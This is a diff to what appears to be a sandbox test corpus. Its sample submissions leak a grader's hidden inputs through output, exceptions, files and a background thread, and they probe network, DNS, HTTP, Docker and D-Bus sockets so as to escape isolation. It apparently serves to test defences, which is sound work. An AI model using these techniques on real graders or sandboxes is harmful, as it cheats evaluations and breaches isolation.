@@ -5,14 +5,9 @@ from tests.attacks.corpus import variant
 inputs_in_feedback = variant(
     "Carry hidden inputs out through everything a student reads: prints, exceptions, values, keys, types, exit codes.",
     small_graph='''
-import sys
-import threading
-import time
-
+import sys, threading, time
 import numpy as np
-
 kept = []
-
 def told(*arrays):
     """What to carry out: the test finds these marks and asks whether the numbers behind them are public."""
     numbers = [repr(float(v)) for a in arrays for v in np.ravel(a)[:4]]
@@ -26,47 +21,27 @@ def repeat():
         time.sleep(0.1)
         for text in kept[-5:]:
             print(text, flush=True)
-
 threading.Thread(target=repeat, daemon=True).start()
-
 def small_graph(x, y, z):
-    raise ValueError(told(x, y, z))
-''',
-    numerical_gradient="""
-def numerical_gradient(f, x, h=1e-5):
-    return told(x)
-""",
-    two_layer_forward="""
-def two_layer_forward(x, params):
-    told(x)
-    return x, None
-""",
-    two_layer_backward="""
-def two_layer_backward(dscores, cache):
-    return {told(dscores): dscores}
-""",
+    raise ValueError(told(x, y, z))''',
+    numerical_gradient="def numerical_gradient(f, x, h=1e-5): return told(x)",
+    two_layer_forward="def two_layer_forward(x, params):\n    told(x)\n    return x, None",
+    two_layer_backward="def two_layer_backward(dscores, cache): return {told(dscores): dscores}",
     softmax_cross_entropy="""
 def softmax_cross_entropy(scores, labels):
-    raise type(told(scores), (Exception,), {})(told(scores))
-""",
+    raise type(told(scores), (Exception,), {})(told(scores))""",
     train="""
 def train(x, labels, params, learning_rate, batches):
     with open("kept.txt", "a") as file:
         file.write(told(*params.values()))
-    return told(*params.values()), "".join(kept)
-""",
+    return told(*params.values()), "".join(kept)""",
 )
 
 network = variant(
     "Carry hidden inputs out by TCP, UDP, DNS, unix sockets and cloud metadata.",
-    small_graph="""
-import glob
-import os
-import socket
-import urllib.request
-
+    with_wrong="""
+import glob, os, socket, urllib.request
 import numpy as np
-
 def attempt(name, action):
     try:
         action()
@@ -86,9 +61,6 @@ def unix(path):
     with socket.socket(socket.AF_UNIX) as sender:
         sender.connect(path)
 
-def small_graph(x, y, z):
-    return 0.0, x, y, z
-
 PORT = LISTENING_PORT
 others = [path for path in glob.glob("/var/tmp/*/k-1") if not os.environ["HOME"].startswith(os.path.dirname(path))]
 attempt("tcp to the host", lambda: tcp("127.0.0.1", PORT))
@@ -99,8 +71,7 @@ attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
 attempt("http", lambda: urllib.request.urlopen("http://example.org", timeout=0.2))
 attempt("abstract socket", lambda: unix("\\0LISTENING_NAME"))
 for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", *glob.glob("/tmp/agz*/s"), *others):
-    attempt(path, lambda path=path: unix(path))
-""",
+    attempt(path, lambda path=path: unix(path))""",
     tier="files",
     unsafe=True,
 )
